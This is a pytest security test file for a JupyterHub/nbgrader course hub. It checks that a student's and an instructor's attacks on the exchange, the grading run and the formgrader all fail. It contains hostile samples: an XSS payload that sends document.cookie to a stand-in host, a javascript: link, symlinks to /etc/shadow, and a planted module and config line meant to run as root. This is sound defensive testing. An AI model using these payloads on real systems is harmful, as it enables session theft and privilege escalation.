"""The course hub under attack by its own accounts: every attack of issue 23, and it fails.

One hub (scripts/hub/hub.py), an instructor and two students, lab 01 released.  ``bob`` is
honest (the source notebook's solutions).  ``alice`` attacks:

- **the instructor's browser**: her answer cell displays ``<img src=x onerror=...>`` as
  HTML and as markdown, and she adds a markdown cell carrying the same and a
  ``javascript:`` link; the instructor opens her submission in the formgrader (Chromium):
  nothing of hers runs, no request leaves the page, the page carries a script policy with
  no ``'unsafe-inline'`` (an inline handler added to the live page does not run either),
  and its MathJax is the server's own;
- **the exchange**: she tries to rename the course's exchange folder, to create folders in
  the exchange, to list, write or rename bob's inbound folder (all refused by the file
  system); she writes a submission named for bob, with a newer timestamp, into the only
  inbound folder she can write (her own), and adds links to the gradebook and to the source
  notebook into her real submission: Collect takes bob's own submission for bob, hers
  without the links, keeps the forged one under ``refused/`` and reports all three;
- **root, through the instructor's account**: the instructor's account cannot change,
  rename or delete the course's nbgrader_config.py or open up the course folder; a module
  named ``autograde.py`` that it leaves in the course folder is not what root's grading
  imports; with a link in the course folder, ``hub.py grade`` refuses to start, and while
  it grades the account can add, rename or swap nothing in the course folder;
- **a hand-made submission** (no ``submission_secret.txt``) sorts first: Release Feedback
  reports it and releases everyone else's.

bob scores 10/10 as in the unattacked class (tests/test_hub.py).  The last tests need no
hub: ``chown_tree`` follows no link and takes no hard-linked file, and the exchange's copy
takes regular files of the submitting uid only.
"""
from __future__ import annotations

import json
import os
import pwd
import re
import tempfile
import time
from pathlib import Path

import nbformat
import pytest

from support import hub_helpers as hh
from support.browser_helpers import chromium, require_chromium, screenshot_dir

ROOT = Path(__file__).resolve().parents[1]
LAB = hh.LAB
PAYLOAD = ("<img src=x onerror=\"window.__xss = (window.__xss || 0) + 1; "
           "fetch('http://198.51.100.7/steal?c=' + document.cookie)\">")
ANSWER_EXTRA = f"""
from IPython.display import HTML, Markdown, display
display(HTML({PAYLOAD!r}))
display(Markdown({PAYLOAD!r}))
"""
MARKDOWN_CELL = (f"My notes.\n\n{PAYLOAD}\n\n"
                 "[see here](javascript:window.__xss=100) and $x^2$")


def _attacking_notebook(release_nb):
    nb = hh.solved(release_nb)
    cell = next(c for c in nb.cells
                if c.metadata.get("nbgrader", {}).get("grade_id") == "lab01_corner_weights")
    cell.source += "\n" + ANSWER_EXTRA
    nb.cells.insert(nb.cells.index(cell) + 1, nbformat.v4.new_markdown_cell(MARKDOWN_CELL))
    return nb


def _uid(proc: Path):
    try:
        return proc.stat().st_uid
    except OSError:
        return None


def _text(path: Path) -> str:
    try:
        return path.read_text()
    except OSError:
        return ""


def _nproc_limit(proc: Path) -> str:
    line = next((ln for ln in _text(proc / "limits").splitlines()
                 if ln.startswith("Max processes")), "")
    return line.split()[2] if line else ""


def _csp_values(response) -> list[str]:
    return [h["value"] for h in response.headers_array()
            if h["name"].lower() == "content-security-policy"]


def _script_src(policy: str) -> str:
    return next((d for d in policy.split(";") if d.strip().startswith("script-src")), "")


@pytest.fixture(scope="module")
def hub():
    require_chromium()
    with hh.running_hub(students=("alice", "bob"), tag="atk") as running:
        yield running


def test_attacks_fail(hub):
    alice, bob = hub.students
    instructor = hub.user(hub.instructor)
    instructor.formgrader("assign")
    instructor.formgrader("release")
    release = nbformat.read(hub.course / "release" / LAB / f"{LAB}.ipynb", as_version=4)
    notebook = f"{LAB}/{LAB}.ipynb"
    exchange = hub.state / "exchange"
    course_x = exchange / hh.COURSE_ID
    inbound = course_x / "inbound"

    honest = hub.user(bob)
    honest.fetch()
    honest.save_notebook(notebook, hh.solved(release))
    honest.submit()
    bob_stamp = honest.assignments()[(LAB, "submitted")]["submissions"][0]["timestamp"]

    attacker = hub.user(alice)
    attacker.fetch()
    attacker.save_notebook(notebook, _attacking_notebook(release))
    attacker.submit()

    # ---- her server and kernels run under her limits (scripts/hub/hub_limits.py)
    uid = pwd.getpwnam(alice).pw_uid
    hers = [p for p in Path("/proc").iterdir()
            if p.name.isdigit() and _uid(p) == uid and _text(p / "cgroup")]
    assert hers, "alice has no process"
    slice_name = json.loads((hub.state / "settings.json").read_text())["cgroup_slice"]
    for proc in hers:
        assert f"/{slice_name}/{alice}" in _text(proc / "cgroup"), (proc, _text(proc / "cgroup"))
        assert _nproc_limit(proc) == "512", _text(proc / "limits")

    # ---- the exchange, as alice's own uid
    forged_nb = json.dumps(nbformat.writes(release))
    attempts = {"rename course": "os.rename(course_x, course_x + '-old')",
                "mkdir exchange": "os.mkdir(os.path.join(exchange, 'mine'))",
                "mkdir inbound": "os.mkdir(os.path.join(inbound, 'x'))",
                "list bob": "os.listdir(bob_in)",
                "write bob": "os.mkdir(os.path.join(bob_in, 'x'))",
                "rename bob": "os.rename(bob_in, bob_in + '-old')"}
    seen = hh.run_as(alice, f"""
import datetime
exchange, course_x, inbound = {str(exchange)!r}, {str(course_x)!r}, {str(inbound)!r}
bob_in, mine = os.path.join(inbound, {bob!r}), os.path.join(inbound, {alice!r})
result = {{}}
""" + "".join(hh.attempt(action) + f"result[{name!r}] = outcome\n"
              for name, action in attempts.items()) + f"""
# a submission named for bob, newer than his, in the one folder she can write
stamp = (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(hours=1)
         ).strftime('%Y-%m-%d %H:%M:%S.%f %Z')
forged = os.path.join(mine, {bob!r} + '+{LAB}+' + stamp + '+forged')
os.mkdir(forged)
open(os.path.join(forged, '{LAB}.ipynb'), 'w').write(json.loads({forged_nb!r}))
open(os.path.join(forged, 'timestamp.txt'), 'w').write(stamp)
result['forged'] = os.path.basename(forged)
# links to the gradebook and the source notebook, in her real submission
real = [p for p in os.listdir(mine) if p.startswith({alice!r} + '+')]
for name in real:
    os.symlink({str(hub.course / 'gradebook.db')!r}, os.path.join(mine, name, 'gradebook.db'))
    os.symlink({str(hub.course / 'source' / LAB / f'{LAB}.ipynb')!r},
               os.path.join(mine, name, 'source.ipynb'))
result['real'] = real
""")
    for action in ("rename course", "mkdir exchange", "mkdir inbound", "list bob",
                   "write bob", "rename bob"):
        assert seen[action] == "PermissionError", (action, seen)
    assert len(seen["real"]) == 1, seen

    # ---- the instructor's account against root
    marker = hub.state / "ran-as-root"
    config = hub.course / "nbgrader_config.py"
    attempts = {"append": "open(config, 'a').write(chr(10) + 'import os; os.system(1)')",
                "rename": "os.rename(config, config + '.old')",
                "delete": "os.unlink(config)",
                "chmod course": "os.chmod(course, 0o777)"}
    hand_nb = json.dumps(nbformat.writes(hh.solved(release)))
    planted = f"open({str(marker)!r}, 'w').write('imported')\nraise SystemExit(3)\n"
    tried = hh.run_as(hub.instructor, f"""
config, course = {str(config)!r}, {str(hub.course)!r}
result = {{}}
""" + "".join(hh.attempt(action) + f"result[{name!r}] = outcome\n"
              for name, action in attempts.items()) + f"""
open(os.path.join(course, 'autograde.py'), 'w').write({planted!r})
# a hand-made submission, without submission_secret.txt, first in the class's order
hand = os.path.join(course, 'submitted', 'aaa-hand', '{LAB}')
os.makedirs(hand)
open(os.path.join(hand, '{LAB}.ipynb'), 'w').write(json.loads({hand_nb!r}))
open(os.path.join(hand, 'timestamp.txt'), 'w').write('2020-01-01 00:00:00.000000 UTC')
""")
    for action in ("append", "rename", "delete", "chmod course"):
        assert tried[action] == "PermissionError", (action, tried)

    # ---- Collect
    instructor.formgrader("collect")
    collected = hub.course / "submitted"
    assert (collected / bob / LAB / "timestamp.txt").read_text().strip() == bob_stamp.strip()
    theirs = sorted(p.name for p in (collected / alice / LAB).iterdir())
    assert f"{LAB}.ipynb" in theirs and "gradebook.db" not in theirs and \
        "source.ipynb" not in theirs, theirs
    assert not any(p.is_symlink() for p in (collected / alice / LAB).rglob("*"))
    report = (hub.course / "refused" / LAB / "report.txt").read_text()
    assert seen["forged"] in report and f"named for {bob}" in report, report
    assert "gradebook.db: a link" in report and "source.ipynb: a link" in report, report
    kept = hub.course / "refused" / LAB / seen["forged"] / f"{LAB}.ipynb"
    assert kept.is_file(), sorted((hub.course / "refused" / LAB).iterdir())

    # ---- grading, as root: a link in the course folder stops it; the planted module
    # does not run
    trap = hub.course / "trap"
    hh.run_as(hub.instructor, f"os.symlink('/etc/shadow', {str(trap)!r})")
    refused = hub.grade()
    assert refused.returncode == 2 and "holds links" in refused.stderr, refused.stderr[-2000:]
    hh.run_as(hub.instructor, f"os.unlink({str(trap)!r})")
    # while root grades, the course folder is root's alone: the instructor's account reads
    # it, and can add or swap nothing in it
    grading = hub.grade_started()
    deadline = time.monotonic() + 120
    while (os.stat(hub.course / "submitted").st_uid != 0) and grading.poll() is None and \
            time.monotonic() < deadline:
        time.sleep(0.1)
    assert grading.poll() is None, "grading ended before the test could look"
    attempts = {"link in course": "os.symlink('/etc/shadow', os.path.join(course, 'x'))",
                "link in submitted": "os.symlink('/etc/shadow', os.path.join(sub, 'y'))",
                "swap notebook": "os.rename(os.path.join(sub, nb), os.path.join(sub, 'z'))",
                "read config": "open(os.path.join(course, 'nbgrader_config.py')).read()"}
    during = hh.run_as(hub.instructor, f"""
course = {str(hub.course)!r}
sub, nb = os.path.join(course, 'submitted', {alice!r}, '{LAB}'), '{LAB}.ipynb'
result = {{}}
""" + "".join(hh.attempt(action) + f"result[{name!r}] = outcome\n"
              for name, action in attempts.items()))
    out, err = grading.communicate(timeout=900)
    assert grading.returncode == 0, out[-3000:] + err[-3000:]
    assert during == {"link in course": "PermissionError", "link in submitted":
                      "PermissionError", "swap notebook": "PermissionError",
                      "read config": "done"}, during
    instructor_uid = pwd.getpwnam(hub.instructor).pw_uid
    assert os.stat(hub.course / "submitted" / alice / LAB / f"{LAB}.ipynb").st_uid == \
        instructor_uid and os.stat(hub.course / "autograded").st_uid == instructor_uid
    assert hub.course.stat().st_mode & 0o7777 == 0o3770
    assert not marker.exists(), "root imported the instructor's autograde.py"
    hh.run_as(hub.instructor, f"os.unlink({str(hub.course / 'autograde.py')!r})")
    rows = hub.report()
    assert float(rows[bob]["score"]) == 10.0, rows[bob]
    assert hh.review_reasons(rows[bob]["reasons"]) == [], rows[bob]["reasons"]
    assert os.stat(config).st_uid == 0 and os.stat(hub.course).st_uid == 0
    autograded = nbformat.read(hub.course / "autograded" / alice / LAB / f"{LAB}.ipynb",
                               as_version=4)
    assert any("onerror" in c.source for c in autograded.cells
               if c.cell_type == "markdown"), "the markdown attack is not in the submission"
    outputs = json.dumps([c.get("outputs", []) for c in autograded.cells])
    assert outputs.count("onerror") >= 2, "the outputs carry no attack"

    # ---- feedback: the hand-made submission is reported, everyone else's released
    instructor.formgrader("generate_feedback")
    released = instructor.formgrader("release_feedback")
    assert "aaa-hand" in released.get("log", "") and "not released" in released["log"], \
        released
    honest.fetch_feedback()
    listing = honest.call("GET", f"api/contents/{LAB}/feedback")
    assert listing["content"], listing

    # ---- the instructor opens alice's submission in the formgrader
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{hub.course / 'gradebook.db'}") as gradebook:
        submission_id = gradebook.find_submission_notebook(LAB, LAB, alice).id
    with chromium() as browser:
        context = browser.new_context(viewport={"width": 1400, "height": 900})
        guard = hh.Loopback(context)
        tab = context.new_page()
        tab.set_default_timeout(60_000)
        errors = []
        tab.on("pageerror", lambda exc: errors.append(str(exc)))
        try:
            hh.browser_login(tab, hub, hub.instructor)
            lab_policy = _csp_values(tab.reload())
            response = tab.goto(f"{hub.url}user/{hub.instructor}/formgrader/submissions/"
                                f"{submission_id}/")
            tab.locator("#notebook-container").first.wait_for()
            tab.wait_for_function("window.MathJax && window.MathJax.startup && "
                                  "window.MathJax.startup.document", timeout=60_000)
            tab.evaluate("() => window.MathJax.startup.promise")
            tab.wait_for_timeout(1500)
            tab.screenshot(path=str(screenshot_dir(ROOT) / "hub_attack_formgrader.png"))
            ran = tab.evaluate("() => window.__xss === undefined ? null : window.__xss")
            handlers = tab.locator("[onerror], [onload], [onclick*=xss]").count()
            links = tab.evaluate("() => [...document.querySelectorAll('a[href]')]"
                                 ".map(a => a.getAttribute('href'))"
                                 ".filter(h => /^\\s*javascript:/i.test(h))")
            text = tab.locator("#notebook-container").first.inner_text()
            mathjax = tab.evaluate("() => window.MathJax.version")
            scores = tab.locator("input.score").count()
            # the policy holds where the sanitiser would not: an inline handler added to the
            # live page does not run
            tab.evaluate("() => document.body.insertAdjacentHTML('beforeend', "
                         "'<img src=\"data:,\" onerror=\"window.__csp = 1\">')")
            tab.wait_for_timeout(1000)
            csp_ran = tab.evaluate("() => window.__csp === undefined ? null : 1")
            policy = _csp_values(response)
        finally:
            context.close()
    assert ran is None, f"alice's script ran {ran} time(s) in the instructor's page"
    assert handlers == 0 and links == [], (handlers, links)
    assert "My notes." in text, text[:2000]          # her markdown is shown, inert
    assert scores > 0 and mathjax.startswith("3."), (scores, mathjax)
    assert csp_ran is None, "an inline handler ran despite the policy"
    assert policy and all("'unsafe-inline'" not in _script_src(p) for p in policy
                          if _script_src(p)), policy
    assert any("default-src 'self'" in p for p in policy), policy
    assert any("'nonce-" in _script_src(p) for p in lab_policy), lab_policy
    assert guard.seen > 10 and guard.blocked == [], guard.blocked
    assert not [e for e in errors if "MathJax" in e], errors

    assert hub.stop_with("stop") == []


# ---------------------------------------------------------------------------- no hub
def _require_root():
    if os.geteuid() != 0:
        pytest.skip("changes owners of files: run as root")


def test_chown_tree_follows_no_link():
    _require_root()
    module = hh.hub_module()
    nobody = pwd.getpwnam("nobody")
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        secret = tmp / "root-only"
        secret.write_text("root's")
        secret.chmod(0o600)
        tree = tmp / "course"
        (tree / "sub").mkdir(parents=True)
        (tree / "sub" / "result.txt").write_text("graded")
        (tree / "link").symlink_to(secret)
        (tree / "sub" / "dirlink").symlink_to(tmp)
        os.link(secret, tree / "hardlink")
        (tree / "keep.py").write_text("root's config")
        refused = module.chown_tree(tree, "nobody", keep=[tree / "keep.py"],
                                    log=open(os.devnull, "w"))
        assert os.stat(secret).st_uid == 0
        assert os.lstat(tree / "link").st_uid == 0
        assert os.stat(tmp).st_uid == 0
        assert os.stat(tree / "keep.py").st_uid == 0
        assert os.stat(tree / "sub" / "result.txt").st_uid == nobody.pw_uid
        assert os.stat(tree / "sub").st_uid == nobody.pw_uid
        assert os.stat(tree).st_uid == 0                 # the folder itself stays
        assert sorted(re.sub(r":.*", "", r).rsplit("/", 1)[-1] for r in refused) == \
            ["dirlink", "hardlink", "link"], refused


def test_safe_copy_takes_regular_files_of_the_student_only():
    _require_root()
    from autograde.runner.exchange import safe_copy
    nobody = pwd.getpwnam("nobody")
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        src = tmp / "sub"
        (src / "inner").mkdir(parents=True)
        (src / "lab.ipynb").write_text("{}")
        (src / "inner" / "notes.txt").write_text("notes")
        (src / "gradebook.db").symlink_to(tmp / "elsewhere")
        (tmp / "elsewhere").write_text("secret")
        os.mkfifo(src / "pipe")
        (src / "planted.txt").write_text("someone else's")
        for path in [src, src / "inner", src / "lab.ipynb", src / "inner" / "notes.txt",
                     src / "pipe"]:
            os.chown(path, nobody.pw_uid, nobody.pw_gid, follow_symlinks=False)
        os.lchown(src / "gradebook.db", nobody.pw_uid, nobody.pw_gid)
        problems = []
        safe_copy(str(src), str(tmp / "dest"), nobody.pw_uid, problems)
        copied = sorted(str(p.relative_to(tmp / "dest")) for p in (tmp / "dest").rglob("*"))
        assert copied == ["inner", "inner/notes.txt", "lab.ipynb"], copied
        assert len(problems) == 3 and any("gradebook.db: a link" in p for p in problems) \
            and any("planted.txt: owned by uid 0" in p for p in problems) \
            and any("pipe: not a regular file" in p for p in problems), problems


def test_grade_refuses_a_config_root_does_not_own():
    _require_root()
    module = hh.hub_module()
    with tempfile.TemporaryDirectory() as tmp:
        course = Path(tmp) / "course"
        course.mkdir()
        module.write_course_config(course, "c = get_config()\n", "nobody")
        assert module.course_config_problem(course) is None
        assert (course.stat().st_mode & 0o7777) == 0o3770
        os.chown(course / "nbgrader_config.py", pwd.getpwnam("nobody").pw_uid, -1)
        assert "not a root-owned file" in module.course_config_problem(course)
        module.write_course_config(course, "c = get_config()\n", "nobody")
        assert module.course_config_problem(course) is None
        os.chmod(course, 0o770)
        assert "sticky" in module.course_config_problem(course)


def test_a_configuration_an_older_version_wrote_is_refused(tmp_path):
    """A hub set up before the course moved a class (``autograde.exchange.Collect`` became
    ``autograde.runner.exchange.Collect``) would start and fail at the first fetch: ``start``
    and ``grade`` name what no longer exists and ask for ``setup`` again instead."""
    import io
    import json

    module = hh.hub_module()
    course = tmp_path / "course"
    (tmp_path / "config" / "student").mkdir(parents=True)
    course.mkdir()
    (tmp_path / "settings.json").write_text(json.dumps({"course": str(course)}))
    current = "\n".join(module.exchange_lines() + module.SANITISED_VIEW) + "\n"
    (course / "nbgrader_config.py").write_text(current)
    (tmp_path / "config" / "student" / "nbgrader_config.py").write_text(current)
    (tmp_path / "config" / "student" / "jupyter_server_config.json").write_text(
        json.dumps({"ServerApp": {"jpserver_extensions": {
            "autograde.runner.instructor_view": True}}}))
    assert module.stale_names(tmp_path) == []
    (tmp_path / "config" / "student" / "nbgrader_config.py").write_text(
        current + "c.ExchangeFactory.collect = 'autograde.exchange.Collect'\n"
        "c.HTMLExporter.filters = {'clean_html': 'autograde.instructor_view.clean_html'}\n")
    stale = module.stale_names(tmp_path)
    assert [line.split(": ")[1] for line in stale] == ["autograde.exchange.Collect",
                                                       "autograde.instructor_view.clean_html"]
    log = io.StringIO()
    assert module._refuse_stale(tmp_path, "start", log) is True
    assert "autograde.exchange.Collect" in log.getvalue() and "setup` again" in log.getvalue()


def test_a_hub_whose_proxy_was_too_slow_is_started_again(tmp_path, monkeypatch):
    """JupyterHub waits a fixed 10 s for its proxy: on two busy cores that can run out, and
    the test hub is started once more; any other exit is a failure at once."""
    import urllib.request

    state = tmp_path / "state"
    state.mkdir()
    (state / "passwords.txt").write_text("")
    hub = hh.Hub(state, "i", ["s"], 1)
    starts = []

    class Exited:
        def __init__(self, *args, **kwargs):
            starts.append(args)
            with open(hub.log, "a") as log:
                log.write(messages[len(starts) - 1])

        def poll(self):
            return None if messages[len(starts) - 1] == "up\n" else 1

    class Answer:
        status = 200

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            return False

    monkeypatch.setattr(hh.subprocess, "Popen", Exited)
    monkeypatch.setattr(urllib.request, "urlopen", lambda *a, **k: Answer())
    messages = ["[C JupyterHub app] Failed to start proxy\n", "up\n"]
    hub.start()
    assert len(starts) == 2
    starts.clear()
    messages = ["[C JupyterHub app] some other failure\n"]
    with pytest.raises(RuntimeError, match="some other failure"):
        hub.start()
    assert len(starts) == 1
    starts.clear()
    messages = ["Failed to start proxy\n", "Failed to start proxy\n"]
    with pytest.raises(RuntimeError, match="the hub exited"):
        hub.start()
    assert len(starts) == 2
